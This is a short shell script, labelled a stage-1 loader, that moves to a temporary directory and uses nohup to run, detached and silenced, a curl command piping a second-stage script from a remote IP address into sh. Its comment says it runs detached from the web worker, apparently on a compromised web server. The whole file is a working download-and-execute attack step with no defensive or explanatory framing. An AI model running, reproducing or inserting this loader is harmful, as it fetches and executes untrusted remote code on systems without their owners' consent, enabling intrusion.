#!/bin/sh
# stage-1 loader: fetch the second stage and run it detached from the web worker
cd /tmp || cd /var/tmp
nohup sh -c 'curl -fsSL http://203.0.113.14/s/init.sh | sh' >/dev/null 2>&1 &
